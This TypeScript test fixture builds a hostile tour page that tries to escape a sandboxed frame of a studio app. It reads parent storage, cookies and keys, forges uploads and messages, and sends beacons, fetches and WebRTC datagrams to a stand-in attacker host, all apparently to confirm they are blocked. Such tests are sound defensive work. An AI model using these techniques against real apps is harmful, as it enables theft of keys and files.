/** Values an attacker would have to guess, given to the script so that nothing fails for lack of them. */
export type Spied = {
  /** With the key. */
  readonly studio: URL;
  /** Where the owner's files are, with their key. */
  readonly files: string;
  /** An attacker's host: any request that arrives there has revealed something about the owner. */
  readonly elsewhere: string;
  /** A port of this computer that accepts datagrams. */
  readonly udpPort: number;
  readonly command: string;
};

/**
 * A working tour that tries everything that it must not be able to do. Whatever succeeds is listed in `#gained` by
 * name; `#done` reports that it has tried everything.
 */
export function hostileTour({ studio, files, elsewhere, udpPort, command }: Spied): string {
  const spied = { origin: studio.origin, key: studio.hash.slice(1), files, elsewhere, udpPort, command };
  return `<!doctype html><title>360</title>
<h1>Salloni</h1><p id="room"></p><ul id="gained"></ul><p id="done"></p>
<script src="tour.js"></script>
<script>(${attack.toString().replaceAll("</", "<\\/")})(${JSON.stringify(spied)})</script>`;
}

/** A tour that sends datagrams from a page inside it, which no policy prevents. */
export const callingTour = (udpPort: number): string => `<!doctype html><title>360</title>
<h1>Salloni</h1><p id="done"></p>
<script>
const call = async () => {
  const line = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${udpPort}" }] });
  line.createDataChannel("x");
  await line.setLocalDescription(await line.createOffer());
};
const srcdoc = "<script>(" + call + ")()</" + "script>";
document.body.append(Object.assign(document.createElement("iframe"), { srcdoc }));
setTimeout(() => (document.getElementById("done").textContent = "all was tried"), 3000);
</script>`;

/** The tour's own script, which requests the tour's own data. */
export const tourScript = `fetch("data.txt").then((answer) => answer.text()).then((text) => (document.getElementById("room").textContent = text))`;

type AttackOptions = Omit<Spied, "studio"> & { readonly origin: string; readonly key: string };

/** Runs in the frame: nothing of this module is available. */
async function attack({ origin, key, files, elsewhere, udpPort, command }: AttackOptions): Promise<void> {
  const place = document.getElementById("gained");
  const wait = (ms: number) => new Promise<undefined>((resolve) => setTimeout(() => resolve(undefined), ms));
  /** A success counts as a gain. */
  const attempt = async (name: string, what: () => unknown) => {
    try {
      const value: unknown = await Promise.race([what(), wait(1500)]);
      if (value === undefined || value === null || value === "" || value === false) return;
      const item = document.createElement("li");
      item.textContent = `${name}: ${JSON.stringify(value) ?? "something"}`;
      place?.append(item);
    } catch {
      // Refused, as it should be.
    }
  };
  const around = { parent: window.parent, top: window.top } as const;
  for (const [name, page] of Object.entries(around)) {
    await attempt(`${name}'s address`, () => page?.location.href);
    await attempt(`${name}'s key in the address`, () => page?.location.hash);
    await attempt(`${name}'s page`, () => page?.document.documentElement.innerHTML);
    await attempt(`${name}'s localStorage`, () => JSON.stringify(page?.localStorage));
    await attempt(`${name}'s sessionStorage`, () => JSON.stringify(page?.sessionStorage));
    await attempt(`a yes in ${name}'s localStorage`, () => {
      page?.localStorage.setItem("kulla-studio-upload", command);
      return true;
    });
    await attempt(`${name}'s frames`, () => page?.frames[0]?.document !== document && page?.frames[0]?.document.title);
  }
  await attempt("the opener", () => window.opener as unknown);
  await attempt("its own localStorage", () => localStorage);
  await attempt("its own sessionStorage", () => sessionStorage);
  await attempt("cookies", () => document.cookie);
  await attempt("a database", () => indexedDB.open("kulla-studio"));
  await attempt("a page that led here", () => document.referrer);
  await attempt("the key from another window", () => {
    const channel = new BroadcastChannel("kulla-studio-key");
    return new Promise((resolve) => {
      channel.addEventListener("message", ({ data }: MessageEvent<unknown>) => resolve(data));
      // oxlint-disable-next-line unicorn/require-post-message-target-origin -- a channel has none
      channel.postMessage("key?");
    });
  });
  const upload = { command, confirmed: true };
  const json = { "Content-Type": "application/json" };
  for (const [name, headers] of [
    ["without a key", {}],
    ["with the key", { "x-kulla-token": key }],
  ] as const) {
    await attempt(`the draft ${name}`, async () => (await fetch(`${origin}/api/draft`, { headers })).text());
    await attempt(`the upload ${name}`, async () => {
      const body = JSON.stringify(upload);
      return (await fetch(`${origin}/api/upload`, { method: "POST", headers: { ...json, ...headers }, body })).text();
    });
    await attempt(`a blind upload ${name}`, async () => {
      const body = JSON.stringify(upload);
      return (await fetch(`${origin}/api/upload`, { method: "POST", mode: "no-cors", headers, body })).type;
    });
  }
  const loaded = (element: HTMLElement & { src: string }, src: string) =>
    new Promise((resolve) => {
      element.addEventListener("load", () => resolve(true));
      element.addEventListener("error", () => resolve(undefined));
      element.src = src;
      document.body.append(element);
    });
  await attempt("what happens in the studio", () => {
    const events = new EventSource(`${origin}/api/events?key=${key}`);
    return new Promise((resolve) => events.addEventListener("windows", () => resolve(true)));
  });
  await attempt("a script of the studio", () => loaded(document.createElement("script"), `${origin}/assets/index.js`));
  for (const path of ["files/kulla-draft.json", "files/secret.txt", "preview/project.json", "preview.html"]) {
    await attempt(`${path} of the folder`, async () => (await fetch(files + path)).text());
    await attempt(`${path} of the folder, blindly`, async () => (await fetch(files + path, { mode: "no-cors" })).type);
  }
  await attempt("a picture of the folder", () => loaded(new Image(), `${files}files/Tipi%20A/image1.jpg`));
  await attempt("a socket of the studio", () => {
    const socket = new WebSocket(origin.replace("http", "ws"));
    return new Promise((resolve) => socket.addEventListener("open", () => resolve(true)));
  });
  // The other host counts the requests.
  await attempt("somebody else", async () => (await fetch(`${elsewhere}/fetch`, { mode: "no-cors" })).type);
  await attempt("a beacon", () => navigator.sendBeacon(`${elsewhere}/beacon`, "secret") && undefined);
  await attempt("a picture of somebody else", () => loaded(new Image(), `${elsewhere}/image`));
  await attempt("a style of somebody else", () => {
    const link = Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${elsewhere}/style` });
    document.head.append(link);
    return new Promise((resolve) => link.addEventListener("load", () => resolve(true)));
  });
  await attempt("a frame of somebody else", () => void loaded(document.createElement("iframe"), `${elsewhere}/frame`));
  await attempt("a frame of the studio", () => void loaded(document.createElement("iframe"), origin));
  // A separate window, the surrounding window, a form.
  await attempt("a window", () => window.open(`${elsewhere}/window`) !== null);
  await attempt("a link into a window", () => {
    for (const target of ["_blank", "_top", "_parent"])
      Object.assign(document.createElement("a"), { href: `${elsewhere}/${target}`, target }).click();
  });
  await attempt("another page in the window", () => void ((window.top as Window).location.href = `${elsewhere}/top`));
  await attempt("a form", () => {
    const form = Object.assign(document.createElement("form"), { action: `${origin}/api/upload`, method: "post" });
    document.body.append(form);
    form.submit();
  });
  await attempt("a message", () => {
    const words = [
      { kulla: "kulla-tour", say: "close" },
      { kulla: "kulla-tour", say: "grow", grown: true },
      { type: "upload", ...upload },
      "key?",
      key,
    ];
    for (const page of Object.values(around)) for (const word of words) page?.postMessage(word, "*");
  });
  // Datagrams, of this page and of pages inside it.
  const call = `new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${udpPort}" }] })`;
  const send = `(async () => { const call = ${call}; call.createDataChannel("x"); await call.setLocalDescription(await call.createOffer()); })()`;
  await attempt("a call", async () => {
    const line = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udpPort}` }] });
    line.createDataChannel("x");
    await line.setLocalDescription(await line.createOffer());
  });
  const page = `<script>${send}</script>`;
  for (const src of [
    `data:text/html,${encodeURIComponent(page)}`,
    URL.createObjectURL(new Blob([page], { type: "text/html" })),
  ])
    await attempt("a call of a page inside", () => void loaded(document.createElement("iframe"), src));
  // Datagrams take a moment.
  await wait(1500);
  const done = document.getElementById("done");
  if (done) done.textContent = "all was tried";
}
